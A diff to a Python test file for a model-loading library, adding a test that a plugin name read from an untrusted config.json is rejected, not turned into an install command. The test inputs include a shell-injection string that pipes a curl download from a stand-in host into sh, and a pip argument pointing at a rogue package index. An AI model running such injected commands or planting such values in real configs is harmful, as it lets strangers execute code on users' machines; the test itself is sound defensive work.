@@ -15,7 +15,7 @@ from safetensors.torch import load_file, save_file
 
 import zoo
 from zoo import api
-from zoo.errors import DataError, FolderError, HubError, NonFiniteLoss, RecipeError, TrainingError
+from zoo.errors import DataError, FolderError, HubError, NonFiniteLoss, PluginError, RecipeError, TrainingError
 from zoo.folder import store
 
 from .conftest import CHECKOUT, Run
@@ -209,3 +209,23 @@ def test_a_strangers_recipe_beyond_reason_is_refused_when_its_folder_is_read(
     config_of(model_folder, job={**job, "recipe": {**job["recipe"], **changes}})
     with pytest.raises(FolderError, match=f"{next(iter(changes))} should be up to"):
         store.read_config(model_folder)
+
+
+@pytest.mark.parametrize(
+    ("plugin", "named"),
+    [
+        ("zoo-other 2.0", "the distribution 'zoo-other'"),
+        ("evil;curl${IFS}e.x|sh 1", "no distribution that could be one"),
+        ("--index-url=http://e.x 1", "no distribution that could be one"),
+        ("a" * 101, "no distribution that could be one"),
+        ("", "no distribution that could be one"),
+    ],
+)
+def test_no_command_is_made_of_what_a_stranger_wrote(model_folder: Path, plugin: str, named: str) -> None:
+    job = json.loads((model_folder / store.CONFIG).read_text())["job"]
+    job |= {"architecture": "other", "versions": {**job["versions"], "plugin": plugin}}
+    with pytest.raises(PluginError) as caught:
+        zoo.load(config_of(model_folder, name="other_digits", architecture="other", job=job), pretrained=True)
+    assert f"its config.json names {named}: install it where you trust it" in str(caught.value)
+    assert "pip" not in str(caught.value)
+    assert "curl" not in str(caught.value)
